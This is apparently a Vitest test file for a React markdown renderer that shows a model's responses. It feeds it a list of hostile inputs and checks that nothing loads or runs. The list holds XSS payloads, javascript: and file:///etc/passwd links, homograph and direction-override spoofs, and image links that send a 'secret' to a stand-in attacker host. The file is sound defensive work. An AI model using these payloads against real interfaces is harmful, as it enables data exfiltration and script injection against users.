import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { MarkdownBlock } from '../../../renderer/src/features/response/markdown/markdown-block.tsx';
import { readLinkTarget } from '../../../renderer/src/features/response/markdown/safe-url.ts';

const ADDRESS = 'https://evil.example/p?secret=1';
const HOSTILE = [
  `![x](${ADDRESS})`,
  `![x][r]\n\n[r]: ${ADDRESS}`,
  `[![x](${ADDRESS})](${ADDRESS})`,
  `<img src="${ADDRESS}" onerror="alert(1)">`,
  '<script>alert(1)</script>',
  `<iframe src="${ADDRESS}"></iframe>`,
  `<style>@import url(${ADDRESS})</style>`,
  `<svg><use href="${ADDRESS}"/></svg>`,
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  '<javascript:alert(1)>',
  `[x](${ADDRESS} "onmouseover=alert(1)")`,
  `${ADDRESS} www.evil.example`,
  `text[^1]\n\n[^1]: ![x](${ADDRESS})`,
  `| a |\n| - |\n| ![x](${ADDRESS}) |`,
  `- ![x](${ADDRESS})\n  > <img src=${ADDRESS}>`,
];

describe('Markdown of a model', () => {
  test.each(HOSTILE)('loads nothing and runs nothing: %s', (text) => {
    const html = renderToStaticMarkup(<MarkdownBlock text={text} />);
    expect(html).not.toMatch(/<(?:img|script|iframe|style|link|use|object|embed|form|base|meta)\b/i);
    expect(html).not.toMatch(/<[^>]*\s(?:src|href|srcset|action|on\w+|style)=/i);
  });

  test('a link shows its whole address beside its text', () => {
    const html = renderToStaticMarkup(<MarkdownBlock text="[our docs](https://other.example/very/long?x=1)" />);
    expect(html).toContain('our docs');
    expect(html).toContain('(https://other.example/very/long?x=1)');
  });

  test('a link shows the address that would be opened, whatever script or direction it is written in', () => {
    const html = renderToStaticMarkup(
      <MarkdownBlock text={'[https://apple.com](https://\u0430pple.com/\u202emoc.elgoog) https://a.example'} />,
    );
    expect(html).toContain('(https://xn--pple-43d.com/%E2%80%AEmoc.elgoog)');
    expect(html).not.toContain('(https://a.example');
  });

  test('definitions on their own are shown, not swallowed', () => {
    expect(renderToStaticMarkup(<MarkdownBlock text="[1]: https://example.com" />)).toContain('https://example.com');
  });
});

describe('readLinkTarget', () => {
  test.each([
    ['https://a.example/x', true],
    ['http://a.example', true],
    ['mailto:a@b.example', true],
    ['javascript:alert(1)', false],
    ['https://openai.com@evil.example/', false],
    ['file:///etc/passwd', false],
    ['smb://host/share', false],
    ['//evil.example', false],
    ['#top', false],
    ['', false],
  ])('%s can open: %s', (address, canOpen) => {
    expect(readLinkTarget(address).canOpen).toBe(canOpen);
  });
});
